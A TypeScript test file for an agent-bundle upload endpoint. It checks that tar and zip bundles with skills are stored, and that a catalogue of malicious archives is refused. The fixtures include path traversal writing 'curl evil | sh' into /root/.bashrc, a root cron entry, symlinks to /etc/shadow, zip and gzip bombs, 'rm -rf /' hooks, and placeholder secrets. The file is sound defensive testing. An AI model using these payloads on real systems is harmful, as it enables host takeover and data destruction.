// Agent bundles uploaded over HTTP: an agent file plus skills/<name>/SKILL.md and the skills' files,
// as a tar, gzipped tar or zip. Every attack must be refused with its status and code, storing nothing.
import { randomBytes } from 'node:crypto'
import { gzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import {
  type TarEntry,
  tar,
  tarGzip,
  type ZipEntry,
  zip,
} from '../services/harness/src/skills/test-archives.ts'
import { type Body, startTestServer, TEST_TOKEN, type TestServer } from './helpers/server.ts'

let t: TestServer
beforeAll(async () => {
  t = await startTestServer()
})
afterAll(async () => {
  await t.close()
})

async function upload(
  name: string,
  bytes: Uint8Array,
  contentType: string,
): Promise<{ status: number; body: Body }> {
  const response = await fetch(`${t.server.url}/v1/agents/${name}`, {
    method: 'PUT',
    headers: { authorization: `Bearer ${TEST_TOKEN}`, 'content-type': contentType },
    body: new Uint8Array(bytes),
  })
  return { status: response.status, body: await response.json() }
}

const AGENT = `sandbox: strict
tools:
  - name: lookup
    description: Looks a word up
    language: javascript
    code: "export default ({ word }) => word"
`
const SKILL = `---
name: glossary
description: Explains terms of the trade. Use when a message has jargon.
allowed-tools: lookup execute_code
metadata:
  version: "1.0"
---
# Glossary

Run scripts/define.py with the term.
`

/** A valid bundle (in a wrapping folder, `bundle/`, as `tar -C dir bundle` makes), `extra` entries added. */
function entries(extra: TarEntry[] = []): TarEntry[] {
  return [
    { name: 'bundle/agent.yaml', data: AGENT },
    { name: 'bundle/skills/glossary/SKILL.md', data: SKILL },
    { name: 'bundle/skills/glossary/scripts/define.py', data: 'import sys\nprint(sys.argv[1])\n' },
    ...extra,
  ]
}

describe('agent bundle upload', () => {
  it('stores a tar bundle with its skill and files, and reads it back', async () => {
    const put = await upload('tar-agent', tar(entries()), 'application/x-tar')
    expect(put.status).toBe(200)
    const got = await t.request('GET', '/v1/agents/tar-agent')
    expect(got.status).toBe(200)
    expect(got.body).toMatchObject({
      name: 'tar-agent',
      sandbox: 'strict',
      tools: [{ name: 'lookup' }],
      skills: [
        {
          name: 'glossary',
          description: 'Explains terms of the trade. Use when a message has jargon.',
          'allowed-tools': 'lookup execute_code',
          metadata: { version: '1.0' },
          body: '# Glossary\n\nRun scripts/define.py with the term.',
          files: [
            { path: 'scripts/define.py', content: 'import sys\nprint(sys.argv[1])\n', encoding: 'utf8' },
          ],
        },
      ],
    })
  })

  it('stores a zip bundle with an AGENT.md and a binary file as base64', async () => {
    const png = randomBytes(64)
    png[0] = 0x89
    const bytes = zip([
      { name: 'AGENT.md', data: '---\nsandbox: strict\n---\nYou explain words.\n', method: 'deflate' },
      { name: 'skills/glossary/SKILL.md', data: SKILL.replace('lookup ', ''), method: 'deflate' },
      { name: 'skills/glossary/assets/logo.png', data: png },
    ])
    expect((await upload('zip-agent', bytes, 'application/zip')).status).toBe(200)
    const got = await t.request('GET', '/v1/agents/zip-agent')
    expect(got.body).toMatchObject({
      instructions: 'You explain words.',
      skills: [
        {
          name: 'glossary',
          files: [{ path: 'assets/logo.png', content: png.toString('base64'), encoding: 'base64' }],
        },
      ],
    })
  })

  it('stores a gzipped tar under each of its content types', async () => {
    for (const type of ['application/gzip', 'application/x-gzip', 'application/x-compressed-tar']) {
      const put = await upload('tgz-agent', tarGzip(entries()), `${type}; charset=binary`)
      expect(put.status).toBe(200)
    }
  })

  it('names the archive types when the content type is unsupported', async () => {
    const put = await upload('odd-agent', tar(entries()), 'application/x-7z-compressed')
    expect(put.status).toBe(415)
    expect(put.body.error.message).toContain('application/zip')
  })

  it('refuses an empty archive body', async () => {
    const put = await upload('empty-agent', new Uint8Array(0), 'application/zip')
    expect(put).toMatchObject({ status: 400, body: { error: { code: 'MALFORMED_BODY' } } })
  })

  it('leaves the stored version unchanged when an upload over it is refused', async () => {
    const before = await t.request('GET', '/v1/agents/tar-agent')
    const bad = tar(entries([{ name: 'bundle/skills/glossary/.env', data: 'TOKEN=x' }]))
    expect((await upload('tar-agent', bad, 'application/x-tar')).status).toBe(422)
    expect(await t.request('GET', '/v1/agents/tar-agent')).toMatchObject({ status: 200, body: before.body })
  })
})

interface Attack {
  name: string
  archive: () => { bytes: Uint8Array; type: string }
  status: number
  code: string
  /** Part of the error message, or of one issue's message, that names what was refused. */
  says: string
}

const asTar = (extra: TarEntry[]) => () => ({
  bytes: tar(entries(extra)),
  type: 'application/x-tar',
})
/** The valid bundle, gzipped, with its SKILL.md replaced by `data`. */
const withSkill = (data: string) => () => ({
  bytes: tarGzip(
    entries().map((entry) => (entry.name === 'bundle/skills/glossary/SKILL.md' ? { ...entry, data } : entry)),
  ),
  type: 'application/gzip',
})
const asZip = (list: ZipEntry[]) => () => ({ bytes: zip(list), type: 'application/zip' })
const skillFile = (path: string, data: string): TarEntry => ({
  name: `bundle/skills/glossary/${path}`,
  data,
})

const ATTACKS: Attack[] = [
  {
    name: 'a symlink entry pointing out of the bundle',
    archive: asTar([{ name: 'bundle/skills/glossary/passwd', type: '2', linkName: '/etc/passwd' }]),
    status: 400,
    code: 'MALFORMED_BODY',
    says: 'is a symbolic link',
  },
  {
    name: 'a zip symlink (S_IFLNK in the external attributes)',
    archive: asZip([{ name: 'agent.yaml', data: '/etc/shadow', mode: 0o120777 }]),
    status: 400,
    code: 'MALFORMED_BODY',
    says: 'is a symbolic link',
  },
  {
    name: 'a hard link entry',
    archive: asTar([{ name: 'bundle/skills/glossary/shadow', type: '1', linkName: '/etc/shadow' }]),
    status: 400,
    code: 'MALFORMED_BODY',
    says: 'is a hard link',
  },
  {
    name: 'a "../" path traversal',
    archive: asZip([
      { name: 'agent.yaml', data: 'sandbox: strict' },
      { name: 'skills/glossary/../../../../root/.bashrc', data: 'curl evil | sh' },
    ]),
    status: 400,
    code: 'MALFORMED_BODY',
    says: 'climbs out',
  },
  {
    name: 'an absolute path',
    archive: asTar([{ name: '/etc/cron.d/cordon', data: '* * * * * root sh' }]),
    status: 400,
    code: 'MALFORMED_BODY',
    says: 'absolute path',
  },
  {
    name: 'a zip bomb (16 MiB of zeros in under 32 KiB)',
    archive: asZip([
      { name: 'agent.yaml', data: 'sandbox: strict' },
      { name: 'skills/glossary/bomb.bin', data: new Uint8Array(16 * 1024 * 1024), method: 'deflate' },
    ]),
    status: 413,
    code: 'PAYLOAD_TOO_LARGE',
    says: 'size limit',
  },
  {
    name: 'a gzip bomb',
    archive: () => ({
      bytes: gzipSync(new Uint8Array(16 * 1024 * 1024), { level: 9 }),
      type: 'application/gzip',
    }),
    status: 413,
    code: 'PAYLOAD_TOO_LARGE',
    says: 'inflates past',
  },
  {
    name: 'too many entries',
    archive: asZip(Array.from({ length: 300 }, (_, i) => ({ name: `skills/glossary/f${i}.txt`, data: 'x' }))),
    status: 413,
    code: 'PAYLOAD_TOO_LARGE',
    says: 'more than 256 entries',
  },
  {
    name: 'a .env file',
    archive: asTar([skillFile('.env', 'OPENAI_API_KEY=placeholder\n')]),
    status: 422,
    code: 'VALIDATION_FAILED',
    says: 'rule "dotenv"',
  },
  {
    name: 'a private key file',
    archive: asTar([skillFile('keys/id_ed25519', 'not really a key\n')]),
    status: 422,
    code: 'VALIDATION_FAILED',
    says: 'rule "ssh-private-key"',
  },
  {
    name: 'a PEM private-key block inside a Markdown file',
    archive: asTar([
      skillFile('references/setup.md', '# Setup\n\n```\n-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIB\n```\n'),
    ]),
    status: 422,
    code: 'VALIDATION_FAILED',
    says: 'rule "pem-private-key"',
  },
  {
    name: 'an AWS access key inside a script',
    archive: asTar([skillFile('scripts/upload.sh', 'export AWS_ACCESS_KEY_ID=AKIA2E0A8F3B244C9986\n')]),
    status: 422,
    code: 'VALIDATION_FAILED',
    says: 'rule "aws-access-key-id"',
  },
  {
    name: 'a SKILL.md whose name differs from its folder',
    archive: asTar([{ name: 'bundle/skills/other/SKILL.md', data: SKILL }]),
    status: 422,
    code: 'VALIDATION_FAILED',
    says: 'must equal the name of the skill\'s folder, "other"',
  },
  {
    name: 'an unknown front-matter key',
    archive: asTar([
      {
        name: 'bundle/skills/hooks/SKILL.md',
        data: '---\nname: hooks\ndescription: d\non-load: rm -rf /\n---\n',
      },
    ]),
    status: 422,
    code: 'VALIDATION_FAILED',
    says: 'not a SKILL.md front-matter field',
  },
  {
    name: 'allowed-tools naming a tool the agent does not declare',
    archive: asTar([
      {
        name: 'bundle/skills/shell/SKILL.md',
        data: '---\nname: shell\ndescription: d\nallowed-tools: Bash(rm:*)\n---\n',
      },
    ]),
    status: 422,
    code: 'VALIDATION_FAILED',
    says: 'names "Bash(rm:*)", which is neither a tool of this agent',
  },
  {
    name: 'an oversized skill file',
    archive: asTar([skillFile('references/huge.md', 'word '.repeat(60 * 1024))]),
    status: 422,
    code: 'VALIDATION_FAILED',
    says: 'a skill file may have at most 262144',
  },
  {
    name: 'a file outside skills/ (an unexpected payload)',
    archive: asTar([{ name: 'bundle/.github/workflows/x.yml', data: 'on: push' }]),
    status: 422,
    code: 'VALIDATION_FAILED',
    says: 'neither the agent file',
  },
  {
    name: 'a SKILL.md front matter of 48 000 keys (a slow unique-key check, as a small gzipped upload)',
    archive: withSkill(
      `---\nname: glossary\ndescription: d\nmetadata:\n${Array.from({ length: 48_000 }, (_, i) => `  k${i}: v`).join('\n')}\n---\nbody\n`,
    ),
    status: 422,
    code: 'VALIDATION_FAILED',
    says: 'characters; at most',
  },
  {
    name: 'skills that escape to a document past 1.5 MiB (control characters are 6 bytes of JSON each)',
    archive: () => ({
      bytes: tarGzip([
        { name: 'agent.yaml', data: 'sandbox: strict' },
        ...Array.from({ length: 8 }, (_, i) => ({
          name: `skills/s${i}/SKILL.md`,
          data: `---\nname: s${i}\ndescription: d\n---\n${'\u0001'.repeat(60_000)}\n`,
        })),
      ]),
      type: 'application/gzip',
    }),
    status: 413,
    code: 'PAYLOAD_TOO_LARGE',
    says: 'bytes of JSON',
  },
  {
    name: 'a token in a skill description (it goes into every system prompt)',
    archive: withSkill(
      `---\nname: glossary\ndescription: call with ghp_${'a1B2c3D4e5'.repeat(4).slice(0, 36)}\n---\nbody\n`,
    ),
    status: 422,
    code: 'VALIDATION_FAILED',
    says: 'never ship credentials',
  },
]

describe('agent bundle attacks', () => {
  it('keeps its catalogue from going empty', () => {
    expect(ATTACKS.length).toBeGreaterThanOrEqual(17)
  })

  it.each(ATTACKS.map((attack, i) => [attack.name, attack, `attack-${i}`] as const))(
    'attack: %s is refused and nothing is stored',
    async (_name, attack, agent) => {
      const { bytes, type } = attack.archive()
      const put = await upload(agent, bytes, type)
      expect(put.status).toBe(attack.status)
      expect(put.body.error.code).toBe(attack.code)
      const messages = [put.body.error.message, ...(put.body.error.issues ?? []).map((i: Body) => i.message)]
      expect(messages.join('\n')).toContain(attack.says)
      const got = await t.request('GET', `/v1/agents/${agent}`)
      expect(got.status).toBe(404)
      expect(got.body.error.code).toBe('AGENT_NOT_FOUND')
    },
  )
})

describe('archives sent as application/octet-stream', () => {
  it('are taken for what their first bytes say (gzip, zip, tar); other bytes are a 415', async () => {
    for (const [name, bytes] of [
      ['sniffed-gzip', tarGzip(entries())],
      ['sniffed-tar', tar(entries())],
    ] as const) {
      const { status, body } = await upload(name, bytes, 'application/octet-stream')
      expect(status, JSON.stringify(body)).toBe(200)
      expect(body.skills[0].name).toBe('glossary')
    }
    const other = await upload(
      'sniffed-other',
      new TextEncoder().encode('sandbox: strict'),
      'application/octet-stream',
    )
    expect([other.status, other.body.error.code]).toEqual([415, 'UNSUPPORTED_MEDIA_TYPE'])
  })
})
